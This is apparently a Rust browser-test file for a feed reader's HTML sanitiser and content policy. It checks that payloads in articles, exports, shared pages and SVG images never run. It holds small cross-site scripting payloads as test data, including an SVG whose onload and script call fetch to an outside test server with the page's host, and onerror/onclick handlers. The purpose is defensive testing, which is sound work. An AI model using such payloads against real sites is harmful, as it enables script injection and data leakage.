//! Hostile HTML in articles: whatever a feed or a page holds, nothing of it runs, with our policy and without it; and
//! another sanitiser finds nothing left to remove.

use std::fmt::Write as _;
use std::fs;
use std::path::{Path, PathBuf};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use gleaner::archive::Unzip;
use gleaner::content::bound::{self, bound};
use gleaner::content::clean::{Rendering, clean, nothing_kept};
use gleaner::domain::WebUrl;
use serde_json::{Value, json};

use crate::support::outside::{Outside, Reply};
use crate::support::{Browser, NAME, Reader, Screen, Scripts};

/// Tells when something runs that must not: the function that payloads of our own call, and what payloads of others do.
const TRIPWIRE: &str = "
    window.tripped = [];
    window.ran = n => window.tripped.push('ran ' + n);
    for (const name of ['alert', 'confirm', 'prompt', 'print', 'open'])
        window[name] = (...words) => { window.tripped.push(name + ' ' + words.join(' ')); };
    for (const name of ['eval', 'fetch'])
        { const real = window[name]; if (name === 'eval') window[name] = (...w) => { window.tripped.push(name); return real(...w); }; }
";

/// Touches everything of the article that can be touched, then says what tripped.
const TOUCH: &str = "
    const root = document.querySelector('main') || document.body;
    const events = ['mouseover', 'mouseenter', 'mousemove', 'focus', 'focusin', 'pointerover', 'pointerdown', 'wheel', 'toggle',
        'animationstart', 'transitionend', 'load', 'error', 'copy', 'drag', 'keydown', 'input', 'scroll'];
    for (const element of root.querySelectorAll('*'))
        for (const name of events) element.dispatchEvent(new Event(name, { bubbles: false }));
    for (const link of root.querySelectorAll('a[href]'))
        if (!/^(https?|mailto|tel):/.test(link.protocol)) window.tripped.push('link ' + link.href);
    const inside = root.querySelector('.art .text');
    if (inside) {
        for (const element of inside.querySelectorAll('script,style,iframe,object,embed,form,svg,template,link,meta,base'))
            window.tripped.push('element ' + element.tagName);
        for (const element of inside.querySelectorAll('*'))
            for (const attribute of element.attributes)
                if (attribute.name.startsWith('on')) window.tripped.push('attribute ' + attribute.name);
    }
    return window.tripped;
";

/// A payload with a name to find it again.
struct Payload {
    name: String,
    html: String,
}

fn own() -> Vec<Payload> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/payloads/active.html");
    let text = fs::read_to_string(path).unwrap();
    text.lines().enumerate().map(|(at, line)| Payload { name: format!("own {at}"), html: line.to_owned() }).collect()
}

/// The collections of the shared corpus, where it lies beside the checkout; ten payloads to an article.
fn collected() -> Vec<Payload> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/corpus/sanitizer");
    let mut files: Vec<PathBuf> =
        fs::read_dir(folder).into_iter().flatten().map(|entry| entry.unwrap().path()).collect();
    files.sort();
    let mut payloads = Vec::new();
    for file in files {
        let collection: Value = serde_json::from_slice(&fs::read(&file).unwrap()).unwrap();
        let inputs: Vec<&str> =
            collection["cases"].as_array().unwrap().iter().filter_map(|case| case["input"].as_str()).collect();
        for (at, ten) in inputs.chunks(10).enumerate() {
            let mut html = String::new();
            for input in ten {
                let _ = write!(html, "<div>{}</div>", input.replace(['\n', '\r'], " "));
            }
            payloads.push(Payload { name: format!("{} {at}", file.file_stem().unwrap().display()), html });
        }
    }
    payloads
}

/// Keeps each payload as an article whose title and body it is.
fn keep(reader: &Reader, payloads: &[Payload]) {
    let folder = reader.folder().join("in/payloads");
    fs::create_dir_all(&folder).unwrap();
    for (at, payload) in payloads.iter().enumerate() {
        let title: String = payload.html.chars().take(200).collect();
        let text = format!(
            "<!--{}-->\n[{title}](https://payloads.example/{at})\n------\n\n<p>{}</p>{}\n",
            1_700_000_000_000_i64 + i64::try_from(at).unwrap() * 60_000,
            payload.name,
            payload.html
        );
        fs::write(folder.join(format!("{at}_payload.md")), text).unwrap();
    }
    reader.command(&["import", &folder.display().to_string()], None);
}

/// Opens every list page and every article and collects what tripped.
async fn visit(browser: &Browser, reader: &Reader, expected: usize) -> Vec<String> {
    let mut tripped = Vec::new();
    let mut articles = Vec::new();
    let mut page = Some(reader.url("/all"));
    while let Some(address) = page {
        browser.open(&address).await;
        note(&mut tripped, &address, &browser.run(TOUCH).await);
        let links = browser.run("return [...document.querySelectorAll('.rows h3 a')].map(a => a.href)").await;
        articles.extend(links.as_array().unwrap().iter().map(|link| link.as_str().unwrap().to_owned()));
        page = browser
            .run("const a = document.querySelector('a[rel=next]'); return a && a.href")
            .await
            .as_str()
            .map(ToOwned::to_owned);
    }
    assert_eq!(articles.len(), expected, "every payload is an article in the list");
    for address in articles {
        browser.open(&address).await;
        note(&mut tripped, &address, &browser.run(TOUCH).await);
    }
    tripped
}

fn note(tripped: &mut Vec<String>, address: &str, found: &Value) {
    for what in found.as_array().into_iter().flatten() {
        tripped.push(format!("{address}: {what}"));
    }
}

async fn nothing_runs(bypass_policy: bool) {
    let reader = Reader::with_account();
    let mut payloads = own();
    payloads.extend(collected());
    keep(&reader, &payloads);
    let browser = Browser::start(Screen::Desktop, Scripts::On).await;
    browser.devtools("Page.enable", json!({})).await;
    browser.devtools("Page.addScriptToEvaluateOnNewDocument", json!({ "source": TRIPWIRE })).await;
    browser.devtools("Page.setBypassCSP", json!({ "enabled": bypass_policy })).await;
    browser.sign_in(&reader).await;

    let tripped = visit(&browser, &reader, payloads.len()).await;

    assert!(tripped.is_empty(), "{}", tripped.join("\n"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_in_an_article_runs() {
    nothing_runs(false).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_in_an_article_runs_even_without_the_policy() {
    nothing_runs(true).await;
}

/// Somebody who is signed in on the same host reads what was given away: the texts themselves are harmless, whatever the policy.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_in_an_article_that_is_given_away_runs() {
    let reader = Reader::with_account();
    let payloads = own();
    keep(&reader, &payloads);
    let browser = Browser::start(Screen::Desktop, Scripts::On).await;
    browser.devtools("Page.enable", json!({})).await;
    browser.devtools("Page.addScriptToEvaluateOnNewDocument", json!({ "source": TRIPWIRE })).await;
    browser.devtools("Page.setBypassCSP", json!({ "enabled": true })).await;
    browser.sign_in(&reader).await;
    browser.open(&reader.url("/published")).await;
    browser.run("document.querySelector('#list').value = 'all'; document.querySelector('#newest').value = 200").await;
    browser.go("main button.main").await;
    let list = browser.run("return document.querySelector('#made1').value").await.as_str().unwrap().to_owned();

    browser.open(&list).await;
    browser.counts(".row", payloads.len()).await;
    let mut tripped = Vec::new();
    note(&mut tripped, &list, &browser.run(TOUCH).await);
    let links = browser.run("return [...document.querySelectorAll('.rows h3 a')].map(a => a.href)").await;
    for link in links.as_array().unwrap().iter().filter_map(Value::as_str) {
        browser.open(link).await;
        note(&mut tripped, link, &browser.run(TOUCH).await);
    }

    assert!(tripped.is_empty(), "{}", tripped.join("\n"));
}

/// A drawing with a script in an article: shown, and then opened by its own address in every way that a page has. Its script
/// would tell another server where it ran.
async fn no_drawing_runs(bypass_policy: bool) {
    let outside = Outside::start().await;
    let ran = outside.url("/ran");
    let drawing = format!(
        "<svg xmlns='http://www.w3.org/2000/svg' width='90' height='60' onload=\"fetch('{ran}?' + location.host)\">\
         <rect width='90' height='60' fill='red'/><script>fetch('{ran}?' + location.host)</script></svg>"
    );
    outside.route("/drawing.svg", Reply::ok("image/svg+xml", drawing));
    let item = format!(
        "<item><title>A drawing</title><guid>1</guid>\
         <description><![CDATA[<p>Words.</p><p><img src=\"{}\" alt=\"\"></p>]]></description></item>",
        outside.url("/drawing.svg")
    );
    let reader = Reader::with_account();
    reader.follow(&outside, "Drawings", &item);
    let browser = Browser::start(Screen::Desktop, Scripts::On).await;
    browser.devtools("Page.enable", json!({})).await;
    browser.devtools("Page.setBypassCSP", json!({ "enabled": bypass_policy })).await;
    browser.sign_in(&reader).await;
    browser.open(&reader.url("/all")).await;
    browser.go(".rows h3 a").await;
    browser.run("document.querySelector('.art img').scrollIntoView()").await;
    crate::support::becomes(&browser, "return document.querySelector('.art img').naturalWidth", json!(90)).await;

    let address = browser.run("return document.querySelector('.art img').src").await;
    let address = address.as_str().unwrap();
    browser.run(&format!("window.open('{address}'); location.href = '{address}'")).await;
    // Our own pages may not even make such elements; another site on the same host can.
    let frames = format!(
        "<!doctype html><title>Frames</title><iframe src=\"{address}\"></iframe><object data=\"{address}\"></object>\
         <embed src=\"{address}\"><p>All of them"
    );
    outside.route("/frames", Reply::ok("text/html", frames));
    browser.open(outside.url("/frames").as_str()).await;
    browser.says("p", "All of them").await;
    // The same drawing by its own server does run: once that was told, what was opened before has had its time.
    let told =
        |host: &str| outside.seen().iter().any(|seen| seen.target.starts_with("/ran?") && seen.target.contains(host));
    let own = outside.address().to_string();
    browser.open(outside.url("/drawing.svg").as_str()).await;
    browser.until("the drawing runs at home", async || Ok(told(&own))).await;
    let ours = reader.url("/");
    let ours = ours.trim_start_matches("http://").trim_end_matches('/');
    assert!(!told(ours), "a drawing ran on our origin");
}

/// I10: what a picture holds never runs on our origin, by the policy and without it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_drawing_runs_however_it_is_opened() {
    no_drawing_runs(false).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_drawing_runs_however_it_is_opened_even_without_the_policy() {
    no_drawing_runs(true).await;
}

/// What was saved, and the site of files, opened from the disk without any policy of a server.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_in_an_article_that_was_saved_as_a_file_runs() {
    let reader = Reader::with_account();
    let payloads = own();
    keep(&reader, &payloads);
    let browser = Browser::start(Screen::Desktop, Scripts::On).await;
    browser.devtools("Page.enable", json!({})).await;
    browser.sign_in(&reader).await;
    let out = reader.folder().join("out");
    fs::create_dir_all(&out).unwrap();
    for (format, name) in [("html", "page.html"), ("epub", "book.epub")] {
        let fetch =
            "fetch('/export?list=all&format=FORMAT').then(answer => answer.blob()).then(blob => new Promise(done => {
            const reader = new FileReader();
            reader.onload = () => done(reader.result.split(',')[1]);
            reader.readAsDataURL(blob);
        }))";
        let file = browser.run(&format!("return {}", fetch.replace("FORMAT", format))).await;
        fs::write(out.join(name), STANDARD.decode(file.as_str().unwrap()).unwrap()).unwrap();
    }
    let mut book = Unzip::open(fs::File::open(out.join("book.epub")).unwrap(), 1_000).unwrap().unwrap();
    let chapters: Vec<String> = book.names().filter(|name| name.ends_with(".xhtml")).map(str::to_owned).collect();
    for (at, name) in chapters.iter().enumerate() {
        fs::write(out.join(format!("{at}.xhtml")), book.read(name, 1 << 20).unwrap().unwrap()).unwrap();
    }
    let site = out.join("site");
    reader.command(&["publish", "--user", NAME, &site.display().to_string()], None);
    let mut files = vec![out.join("page.html")];
    files.extend((0..chapters.len()).map(|at| out.join(format!("{at}.xhtml"))));
    let pages = pages_in(&site);
    assert!(pages.len() > payloads.len(), "{pages:?}");
    files.extend(pages);
    browser.devtools("Page.addScriptToEvaluateOnNewDocument", json!({ "source": TRIPWIRE })).await;
    browser.devtools("Page.setBypassCSP", json!({ "enabled": true })).await;

    let mut tripped = Vec::new();
    for file in files {
        let address = format!("file://{}", file.display());
        browser.open(&address).await;
        let found = browser.run(TOUCH).await;
        // Files of one folder lead to each other.
        let leads_on = |what: &Value| what.as_str().is_some_and(|what| what.starts_with("link file:"));
        let found = found.as_array().unwrap().iter().filter(|what| !leads_on(what)).cloned().collect();
        note(&mut tripped, &address, &found);
        let broken = browser.run("return document.querySelectorAll('parsererror').length").await;
        assert_eq!(broken, 0, "{address} is not well-formed");
    }

    assert!(tripped.is_empty(), "{}", tripped.join("\n"));
}

fn pages_in(folder: &Path) -> Vec<PathBuf> {
    let entries = fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path());
    entries
        .flat_map(|path| match path.is_dir() {
            true => pages_in(&path),
            false => {
                Some(path).filter(|path| path.extension().is_some_and(|ending| ending == "html")).into_iter().collect()
            }
        })
        .collect()
}

/// Another site that puts a shared page into a frame shows an error instead.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_page_that_is_given_away_stands_in_no_frame_and_can_be_printed() {
    let reader = Reader::with_account();
    keep(&reader, &own()[..1]);
    let browser = Browser::start(Screen::Desktop, Scripts::On).await;
    browser.devtools("Page.enable", json!({})).await;
    browser.sign_in(&reader).await;
    browser.open(&reader.url("/all")).await;
    let article = browser.run("return document.querySelector('.rows h3 a').href").await;
    let article = article.as_str().unwrap().split(['?', '#']).next().unwrap().to_owned();
    browser.open(&format!("{article}/share")).await;
    browser.go("main button.main").await;
    let link = browser.run("return document.querySelector('#link').value").await.as_str().unwrap().to_owned();

    browser.open(&link).await;
    browser.says("h1", "ran(1)").await;
    let printed = browser.devtools("Page.printToPDF", json!({})).await;
    assert!(printed["data"].as_str().unwrap().starts_with("JVBERi"), "a PDF");
    browser.open(&format!("data:text/html,<h1>Elsewhere</h1><iframe src=\"{link}\"></iframe>")).await;

    browser
        .until("the frame is refused", async || {
            browser.client.enter_frame(0).await?;
            let address = browser.run("return location.href").await;
            browser.client.enter_parent_frame().await?;
            Ok(address.as_str().is_some_and(|address| address.starts_with("chrome-error:")))
        })
        .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_tripwire_sees_what_runs() {
    let browser = Browser::start(Screen::Desktop, Scripts::On).await;
    browser.devtools("Page.enable", json!({})).await;
    browser.devtools("Page.addScriptToEvaluateOnNewDocument", json!({ "source": TRIPWIRE })).await;
    browser.open("data:text/html,<main><img src=x onerror='ran(1)'><p onmouseover='ran(2)'>text</main>").await;

    let tripped = browser.run(TOUCH).await;

    assert!(tripped.as_array().unwrap().len() >= 2, "{tripped}");
}

/// What DOMPurify would take out of each of these texts, with elements allowed that it does not know of but that do nothing:
/// the parts of ruby from HTML 5.0 (`rb`, `rtc`).
const PURIFY: &str = "
    const [texts, source] = arguments;
    if (!window.DOMPurify) (0, eval)(source);
    const found = [];
    for (const text of texts) {
        DOMPurify.sanitize(text, { ADD_TAGS: ['rb', 'rtc', 'none', 'semantics'], ADD_ATTR: ['target'] });
        for (const { element, attribute, from } of DOMPurify.removed)
            found.push(`${element ? element.outerHTML ?? element.textContent : `${from?.localName} ${attribute?.name}=${attribute?.value}`} in ${text}`);
    }
    return found;
";

/// Where DOMPurify's script lies, `scripts/test` says; without it there is nothing to compare with.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn another_sanitiser_removes_nothing_from_what_we_show() {
    let Ok(script) = std::env::var("GLEANER_TEST_DOMPURIFY") else { return };
    let source = fs::read_to_string(script).unwrap();
    let base = WebUrl::parse("https://article.example/a/").unwrap();
    let picture = |address: &WebUrl| format!("/media/p/{}", address.as_str().len());
    let rendering = Rendering { base: Some(&base), picture: &picture, media: &picture, kept: &nothing_kept };
    let mut payloads = own();
    payloads.extend(collected());
    let texts: Vec<String> = payloads
        .iter()
        .map(|payload| clean(&bound(&payload.html, &bound::ENTRY).html, &rendering).into_string())
        .collect();
    let browser = Browser::start(Screen::Desktop, Scripts::On).await;
    browser.open("data:text/html,<title>other</title>").await;

    let mut removed = Vec::new();
    for some in texts.chunks(50) {
        let found = browser.client.execute(PURIFY, vec![json!(some), json!(source)]).await.unwrap();
        removed.extend(found.as_array().unwrap().iter().map(ToString::to_string));
    }

    assert!(removed.is_empty(), "{} removed:\n{}", removed.len(), removed.join("\n"));
}

/// The comparison would see it if something were left.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn another_sanitiser_would_tell() {
    let Ok(script) = std::env::var("GLEANER_TEST_DOMPURIFY") else { return };
    let source = fs::read_to_string(script).unwrap();
    let browser = Browser::start(Screen::Desktop, Scripts::On).await;
    browser.open("data:text/html,<title>other</title>").await;

    let texts = json!(["<p onclick=\"ran(1)\">a</p>", "<p>b</p>"]);
    let found = browser.client.execute(PURIFY, vec![texts, json!(source)]).await.unwrap();

    assert_eq!(found.as_array().unwrap().len(), 1, "{found}");
}
